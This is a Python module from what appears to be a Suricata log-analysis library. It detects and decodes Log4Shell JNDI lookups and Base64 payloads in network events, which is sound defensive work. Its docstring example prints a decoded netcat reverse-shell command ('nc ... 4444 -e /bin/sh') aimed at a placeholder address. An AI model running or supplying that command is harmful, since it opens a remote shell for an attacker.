"""A table of what is hidden in the text of events: lookups, Base64, what they decode to."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Literal, NamedTuple, get_args

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from suricata_eve.analysis.columns import (
    arrow_column,
    instant_column,
    integer_column,
    require_columns,
    text_column,
)
from suricata_eve.analysis.copies import find_copies, specificity
from suricata_eve.analysis.gather import Gathering
from suricata_eve.analysis.orientation import has_ends, orientation
from suricata_eve.analysis.rows import take_column
from suricata_eve.analysis.textcolumns import ALL_BASE64, EVE_BASE64, has_text, is_attacker_text
from suricata_eve.errors import EveOptionError, EveTypeError, EveValueError

if TYPE_CHECKING:
    from collections.abc import Sequence

    from numpy.typing import NDArray

    from suricata_eve.analysis.hidden import Finding

__all__ = ["Kind", "Wanted", "Where", "found_payloads", "payloads", "payloads_table", "searched"]

Kind = Literal["jndi", "base64", "eve"]
Wanted = Literal["command", "text", "any"]

_OF_EVENT = {
    "timestamp": pa.timestamp("us", "UTC"),
    "flow_id": pa.int64(),
    "event_type": pa.string(),
    "client_ip": pa.string(),
    "server_ip": pa.string(),
}
_OF_FINDING = {
    "kind": pa.string(),
    "match": pa.string(),
    "resolved": pa.string(),
    "scheme": pa.string(),
    "callback_host": pa.string(),
    "callback_port": pa.uint16(),
    "path": pa.string(),
    "encoded": pa.string(),
    "encoding": pa.string(),
    "content": pa.string(),
    "decoded": pa.string(),
    "data": pa.binary(),
}


def payloads(
    frame: pd.DataFrame,
    columns: str | Sequence[str] | None = None,
    *,
    kinds: Kind | Sequence[Kind] = ("jndi", "base64"),
    content: Wanted = "command",
) -> pd.DataFrame:
    r"""Find and decode what is hidden in the text of events.

    Parameters
    ----------
    frame : DataFrame
        Events of :func:`suricata_eve.read_eve`, or any frame with columns of text, of
        lists of text, or of lists of objects with text.
    columns : str or sequence of str, optional
        Where to look. By default in all text that somebody on the network chose: the
        fields of protocols, all headers, bodies, ``payload_printable`` and file names;
        not in what Suricata or the writer of a rule fills in (addresses, hashes,
        ``alert.signature``, states), nor in EVE's own Base64.
    kinds : {"jndi", "base64", "eve"} or sequence of them, default ("jndi", "base64")
        ``jndi``: JNDI lookups (Log4Shell) with scheme and host, whatever disguises
        them, with the Base64 of their path decoded; also those inside Base64, as in HTTP
        basic credentials. ``base64``: other Base64, with what is encoded inside it.
        ``eve``: ``payload``, ``packet``, ``http.http_request_body`` and
        ``http.http_response_body``, decoded as they are.
    content : {"command", "text", "any"}, default "command"
        Which findings of kind ``base64`` are worth a row: command lines and scripts, any
        readable text, or anything. Lookups and EVE's fields always have theirs.

    Returns
    -------
    DataFrame
        One row per finding, in the order of the frame, with the index of its event.
        Always these columns, with these dtypes:

        - ``timestamp``, ``flow_id``, ``event_type`` of the event, missing if the frame
          lacks them; ``client_ip`` and ``server_ip`` as :func:`orientation` tells them;
        - ``field``: the column; a finding that EVE logs in several fields of the event
          is in the most specific one;
        - ``kind``, and ``match``: the text as it was sent;
        - ``resolved``: the lookup without its disguise, and its ``scheme``,
          ``callback_host``, ``callback_port`` (uint16) and ``path``;
        - ``encoded``: the Base64, and its ``encoding``: alphabet, ``unpadded`` or
          ``cut``, charset;
        - ``content``: ``command``, ``link``, ``credentials``, ``json``, ``text`` or
          ``binary``;
        - ``decoded``: the text, and ``data``: the bytes.

    Raises
    ------
    MissingColumnError
        If a column of ``columns`` is not in the frame.
    EveOptionError
        If ``kinds`` or ``content`` is not one of its choices.
    EveValueError
        If the ``flow_id`` of a finding is one that int64 cannot hold.

    See Also
    --------
    suricata_eve.analysis.group_summary : Who sent which payload, when first and how often.

    Notes
    -----
    For one text there are ``suricata_eve.analysis.jndi.find_lookups`` and
    ``suricata_eve.analysis.base64text.find_base64``.

    Time grows with the length of the text, not with what it holds: nesting and length of
    lookups are bounded, and each distinct text is searched once. At most 1,000 findings
    of one text are reported. Outside of lookups, Base64 of fewer than nine characters of
    text is taken for a word.

    Examples
    --------
    >>> import suricata_eve
    >>> from suricata_eve.analysis.payloads import payloads
    >>> df = suricata_eve.load_sample("log4j")
    >>> found = payloads(df, ["http.http_refer"])
    >>> found["callback_host"].value_counts().head(2).to_dict()
    {'203.0.113.77': 58, '203.0.113.78': 21}
    >>> found["decoded"].iloc[0]
    'nc 192.0.2.66 4444 -e /bin/sh'
    """
    rows, found = found_payloads(frame, columns, kinds=kinds, content=content)
    sides = orientation(frame, rows) if has_ends(frame) else None
    return payloads_table(frame, rows, found, sides)


class Where(NamedTuple):
    """A column to search."""

    place: int
    """Its number."""
    name: str
    decode: bool
    """Whether EVE has encoded it, and what it holds is wanted."""
    look: bool
    """Whether to look for what is hidden in it."""


def searched(
    frame: pd.DataFrame,
    columns: str | Sequence[str] | None,
    *,
    kinds: Kind | Sequence[Kind],
) -> list[Where]:
    """Return the columns in which :func:`payloads` searches.

    Parameters
    ----------
    frame : DataFrame
        Any events; only its columns and dtypes matter.
    columns, kinds : object
        As :func:`payloads` takes them.

    Returns
    -------
    list of Where
        In the order of the frame.
    """
    chosen = _choices("kinds", kinds, get_args(Kind))
    if isinstance(columns, str):
        columns = [columns]
    if columns is not None:
        require_columns(frame, columns, method="payloads")
    search = bool(chosen & {"jndi", "base64"})
    encoded = EVE_BASE64 if columns is None else ALL_BASE64
    found = []
    labels: list[object] = list(frame.columns)
    for place, (name, dtype) in enumerate(zip(labels, frame.dtypes, strict=True)):
        if not isinstance(name, str) or (columns is not None and name not in columns):
            continue
        decode = "eve" in chosen and name in encoded
        look = search and (columns is not None or is_attacker_text(name))
        if (decode or look) and _may_hold_text(dtype):
            found.append(Where(place, name, decode, look))
    return found


def found_payloads(
    frame: pd.DataFrame,
    columns: str | Sequence[str] | None = None,
    *,
    kinds: Kind | Sequence[Kind] = ("jndi", "base64"),
    content: Wanted = "command",
) -> tuple[NDArray[np.int64], dict[str, pa.Array]]:
    """Find what :func:`payloads` tells, but for what it tells of the events.

    Parameters
    ----------
    frame, columns, kinds, content : object
        As :func:`payloads` takes them.

    Returns
    -------
    rows : ndarray of int64
        For each finding the position of its event, ascending.
    found : dict of str to pyarrow.Array
        The columns of the findings.
    """
    chosen = _choices("kinds", kinds, get_args(Kind))
    (wanted,) = _choices("content", content, get_args(Wanted))
    gathering = Gathering(binary=wanted == "any")
    for place, name, decode, look in searched(frame, columns, kinds=kinds):
        texts = _texts(frame.iloc[:, place])
        if decode:
            gathering.decode(name, texts)
        if look:
            gathering.look(name, texts)
    findings, found = gathering.search()
    ranks = np.array([specificity(name) for name in gathering.names], dtype=np.int64)
    keep = ~find_copies(found, findings, ranks) & _worth(findings, chosen, wanted)[found.findings]
    order = np.flatnonzero(keep)
    order = order[np.lexsort((ranks[found.columns[order]], found.rows[order]))]
    fields = pa.array(gathering.names, pa.string()).take(pa.array(found.columns[order]))
    return found.rows[order], {"field": fields, **_values(findings, found.findings[order])}


def _choices(option: str, given: Sequence[str], known: Sequence[str]) -> set[str]:
    """Return what was chosen, or raise naming what is no choice."""
    chosen = [given] if isinstance(given, str) else list(given)
    unknown = [value for value in chosen if value not in known]
    if unknown:
        choices = ", ".join(repr(value) for value in known)
        msg = f"payloads(): {option} has no choice {unknown[0]!r}; choose from {choices}"
        raise EveOptionError(msg)
    return set(chosen)


def _texts(column: pd.Series) -> pa.ChunkedArray:
    """Return a column that may hold text as Arrow data, without any rows if it holds none."""
    try:
        data = arrow_column(column)
    except EveTypeError:  # a column of objects of several kinds: the texts among them
        values = [value if isinstance(value, str) else None for value in column.array]
        data = pa.chunked_array([pa.array(values, pa.string())])
    return data if has_text(data.type) else pa.chunked_array([], pa.string())


def _may_hold_text(dtype: Any) -> bool:
    if not isinstance(dtype, pd.ArrowDtype):
        return dtype.kind not in "biufcmM"
    kind = dtype.pyarrow_dtype
    return has_text(kind.value_type if pa.types.is_dictionary(kind) else kind)


def _worth(findings: Sequence[Finding], kinds: set[str], wanted: str) -> NDArray[np.bool_]:
    """Tell which findings are of a kind and content that was asked for."""
    refused = {"command": {"link", "credentials", "json", "text", "binary"}, "text": {"binary"}}
    without = refused.get(wanted, set())
    return np.fromiter(
        (
            finding.kind in kinds and (finding.kind != "base64" or finding.content not in without)
            for finding in findings
        ),
        np.bool_,
        len(findings),
    )


def _values(findings: Sequence[Finding], numbers: NDArray[np.int64]) -> dict[str, pa.Array]:
    """Lay findings out in columns: each is written once, then taken as often as it occurs."""
    used, places = np.unique(numbers, return_inverse=True)
    columns: dict[str, list[object]] = {name: [] for name in _OF_FINDING}
    for number in used.tolist():
        finding = findings[number]
        lookup, payload = finding.lookup, finding.payload
        row = (
            finding.kind,
            finding.match,
            lookup.resolved if lookup else None,
            lookup.scheme if lookup else None,
            lookup.host if lookup else None,
            lookup.port if lookup else None,
            lookup.path if lookup else None,
            payload.encoded if payload else None,
            payload.encoding if payload else None,
            finding.content,
            payload.text if payload else None,
            payload.data if payload else None,
        )
        for values, value in zip(columns.values(), row, strict=True):
            values.append(value)
    taken = pa.array(places)
    return {
        name: pa.array(values, _OF_FINDING[name]).take(taken) for name, values in columns.items()
    }


def _flow_ids(column: pd.Series) -> pa.ChunkedArray:
    """Return flow IDs as int64, or raise if one is larger."""
    data = integer_column(column)
    if data.type != pa.int64():
        msg = (
            f"payloads(): the flow_id {pc.max(data)} is more than int64 holds, and than Suricata "
            f"writes; correct the column flow_id or drop it"
        )
        raise EveValueError(msg)
    return data


def payloads_table(
    frame: pd.DataFrame,
    rows: NDArray[np.int64],
    found: dict[str, pa.Array],
    sides: pd.DataFrame | None,
) -> pd.DataFrame:
    """Put the event and the finding of each row side by side.

    Parameters
    ----------
    frame : DataFrame
        Events; of the columns that are not searched, those that it has are told.
    rows, found : object
        What :func:`found_payloads` returns.
    sides : DataFrame, optional
        What :func:`orientation` tells of these rows; missing without it.

    Returns
    -------
    DataFrame
        What :func:`payloads` returns.
    """
    read = {"timestamp": instant_column, "flow_id": _flow_ids, "event_type": text_column}
    data: dict[str, pa.Array | pa.ChunkedArray] = {}
    for name, kind in _OF_EVENT.items():
        if sides is not None and name in sides:
            data[name] = text_column(sides[name])
        elif name in read and name in frame.columns:
            data[name] = read[name](take_column(frame[name], rows)).cast(kind)
        else:
            data[name] = pa.nulls(len(rows), kind)
    data.update(found)
    index = frame.index.take(rows)
    return pd.DataFrame(
        {
            name: pd.Series(pd.array(array, dtype=pd.ArrowDtype(array.type)), index=index)
            for name, array in data.items()
        },
        index=index,
    )
